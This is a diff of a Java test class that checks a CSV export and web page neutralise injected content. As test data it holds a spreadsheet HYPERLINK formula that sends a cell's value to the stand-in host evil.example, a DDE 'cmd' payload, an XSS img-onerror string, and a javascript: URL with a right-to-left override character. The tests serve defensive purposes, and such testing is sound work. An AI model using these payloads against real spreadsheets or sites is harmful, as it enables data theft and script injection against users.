@@ -383,10 +383,10 @@ class WebPageTests {
         assertThat(formulas.subList(0, 4)).containsExactly("'=HYPERLINK(\"http://evil.example/?d=\"&A3;\"Voir la fiche\")",
                 "'@SUM(1+1)*cmd|' /C calc'!A0", "'+33 4 11 22 33 44", "lea@exemple.fr");
         assertThat(formulas.subList(14, 16)).containsExactly("'-2+3", "'\t=1+1");
-        assertThat(byId.get("A-\u202e1234").subList(14, 16)).containsExactly("'\r@SUM(1)", "'-");
+        assertThat(byId.get("A-1234").subList(14, 16)).containsExactly("'\r@SUM(1)", "'-");
         // ...while a plain number stays a number, negative or with a decimal comma, and so do the service's figures.
         assertThat(formulas.subList(12, 14)).containsExactly("-12,5", "-12");
-        assertThat(byId.get("A-\u202e1234").subList(12, 14)).containsExactly("1 234,56", "+5");
+        assertThat(byId.get("A-1234").subList(12, 14)).containsExactly("1 234,56", "+5");
         assertThat(formulas.get(7)).isEqualTo("4 000,00");
         assertThat(formulas.get(header.indexOf("probability"))).matches("0,\\d+");
         for (var row : csv) {
@@ -405,8 +405,9 @@ class WebPageTests {
         rows.forEach(row -> byId.put(cell(row, "customer_id").getText(), row));
 
         // File content is text, never HTML.
-        WebElement html = byId.get("A-[U+202E]1234");
-        assertThat(html).as("the id with a right-to-left override, its control shown as such").isNotNull();
+        // The service refuses such controls in ids; in the file's other columns the page shows them as such.
+        WebElement html = byId.get("A-1234");
+        assertThat(cell(html, "phone").getText()).isEqualTo("javascript:alert(1)[U+202E]");
         assertThat(cell(html, "name").getText()).isEqualTo("<img src=x onerror=\"document.title='pwned'\">");
         assertThat(cell(html, "company").getText()).isEqualTo("Café <b>des Arts</b>");
         assertThat(byId("call-list").findElements(By.cssSelector("tbody img, tbody b"))).isEmpty();
